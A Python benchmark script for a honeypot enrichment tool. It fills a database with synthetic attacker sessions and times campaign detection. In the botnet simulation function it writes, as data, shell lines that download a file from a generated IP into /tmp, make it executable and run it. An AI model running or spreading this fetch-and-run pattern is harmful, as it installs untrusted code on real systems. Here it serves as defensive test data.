"""Campaigns of half a million sessions: all at once, and one more day; seconds, memory, size.

    python -m benchmarks.campaigns [--json] [--sessions N] [--engine ENGINE]

Rows of `sessions` of thirty days: six in ten only knock; three are of one of 300 botnets, each with a script
(other hosts and random names every time), four files and a key; one brings a file that nobody else has. Then
a day of 60,000 sessions comes, and is read again with 100 more.
"""

from __future__ import annotations

import hashlib
import random
import tempfile
import time
from collections.abc import Iterator
from datetime import date, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

from sqlalchemy import text

from benchmarks.report import Report, at_most, command_line
from benchmarks.workload import database_of, peak_mib
from cowrie_enrich_dagster.enrichment.campaigns import find_campaigns, note_sessions_changed
from cowrie_enrich_dagster.storage.bulk import insert_rows
from cowrie_enrich_dagster.storage.engine import Database
from cowrie_enrich_dagster.storage.migrate import upgrade
from cowrie_enrich_dagster.storage.tables import SessionRecord, table_of
from cowrie_enrich_dagster.vocabulary import Days
from tests.logs import routable_ips

START = datetime(2025, 11, 1, tzinfo=timezone.utc)
DAYS = 30
NEW_DAY = Days.parse("2025-12-01")
A_DAY, MORE = 60_000, 100
BOTNETS = 300
_SESSIONS = table_of(SessionRecord)
_ZEROS = [
    *("duration_ms", "event_count", "login_failures", "login_successes", "commands", "commands_failed"),
    *("downloads", "uploads", "tunnel_requests", "tunnel_data"),
]
_COLUMNS = [
    *("sensor", "session_id", "started_at", "day", "src_ip", "ended_at", "has_connect", "has_closed"),
    *("logins", "command_lines", "files", "tunnels", "file_hashes", "urls"),
    *_ZEROS,
]


def sessions(number: int, first_day: int, days: int, seed: int) -> Iterator[list[Any]]:
    """Rows of `sessions`."""
    rng = random.Random(seed)
    sources = routable_ips(50_000)
    for n in range(number):
        at = START + timedelta(days=first_day + n * days // number, seconds=rng.random() * 86_399)
        logins, lines, files = _deeds(rng, n)
        yield [
            f"sensor-{n % 4}", f"{seed:04x}{n:08x}", at, at.date(), rng.choice(sources), at, True, True,
            logins, lines, files, [], [file["sha256"] for file in files], [], *(0 for _ in _ZEROS),
        ]  # fmt: skip


def _deeds(rng: random.Random, n: int) -> tuple[list[Any], list[str], list[Any]]:
    kind = rng.random()
    login = {"username": "root", "password": "x", "key": None, "success": True, "attempts": 1}
    if kind < 0.6:
        return [login], ["uname -a"] if kind < 0.2 else [], []
    if kind >= 0.9:
        return [login], ["w"], [_file(f"{n}-{rng.random()}")]
    net = int(BOTNETS * rng.random() ** 2)  # a few do most
    name, host = f"{rng.getrandbits(40):010x}", f"45.{rng.randrange(256)}.{rng.randrange(256)}.9"
    words = " ".join(f"--step{chr(97 + net // 17)}{chr(97 + net % 17)}-{place}" for place in "abcd")
    lines = [f"cd /tmp; wget http://{host}/{name} -O .{name} {words}", f"chmod 777 .{name}; ./.{name}"]
    key = {**login, "key": f"SHA256:{net:043}"} if rng.random() < 0.1 else login
    return [key], lines, [_file(f"net {net} {rng.randrange(4)}")] if rng.random() < 0.5 else []


def _file(name: str) -> dict[str, Any]:
    return {"sha256": hashlib.sha256(name.encode()).hexdigest(), "url": None, "name": None, "how": "upload"}


def put(database: Database, rows: Iterator[list[Any]], day: date | None = None) -> None:
    """Insert sessions, and note their days."""
    with database.write() as connection:
        insert_rows(connection, _SESSIONS, _COLUMNS, rows)
        known = connection.execute(text("SELECT DISTINCT day FROM sessions")).scalars()
        days = [day] if day else [date.fromisoformat(str(one)) for one in known]
        note_sessions_changed(database, connection, days)
        connection.execute(text("DELETE FROM session_ips"))
        connection.execute(text(
            "INSERT INTO session_ips SELECT day, src_ip, count(*), 1, min(started_at), max(started_at), "
            "0, 0, 0, 0, 0, 'global', 1, false FROM sessions GROUP BY day, src_ip"
        ))  # fmt: skip


def measure(report: Report, engine: str, url: str, number: int) -> None:
    """All at once, one more day, and that day again with a little more."""
    database = Database(url)
    upgrade(database)
    put(database, sessions(number, 0, DAYS, 1))
    before = peak_mib()
    for name, rows in (
        (f"{number} sessions of {DAYS} days", None),
        (f"a day of {A_DAY} more", sessions(A_DAY, DAYS, 1, 2)),
        (f"that day again with {MORE} more", sessions(MORE, DAYS, 1, 3)),
    ):
        if rows is not None:
            put(database, rows, NEW_DAY.first)
        peak_mib()
        began, used = time.perf_counter(), time.process_time()
        find_campaigns(database)
        reach = at_most(30) if rows is None else at_most(5)
        report.add(engine, f"{name}, s", round(time.perf_counter() - began, 2), reach)
        report.add(engine, f"{name}, s of our processor", round(time.process_time() - used, 2))
        report.add(engine, f"{name}, peak MiB", peak_mib())
    report.add(engine, "the process before, MiB", before)
    with database.read() as connection:
        for table in ("campaigns", "session_campaigns", "session_artefacts", "artefact_sets", "artefacts"):
            count = connection.execute(text(f"SELECT count(*) FROM {table}")).scalar_one()
            report.add(engine, f"rows of {table}", count)
    database.close()


def main() -> int:
    parser = command_line(__doc__)
    parser.add_argument("--sessions", type=int, default=500_000)
    parser.add_argument("--engine", choices=["postgresql", "sqlite"], action="append")
    arguments = parser.parse_args()
    report = Report("campaigns", {"sessions": arguments.sessions})
    for engine in arguments.engine or ["sqlite", "postgresql"]:
        with tempfile.TemporaryDirectory() as folder, database_of(engine, Path(folder)) as url:
            measure(report, engine, url, arguments.sessions)
    return report.finish(as_json=arguments.json)


if __name__ == "__main__":
    raise SystemExit(main())
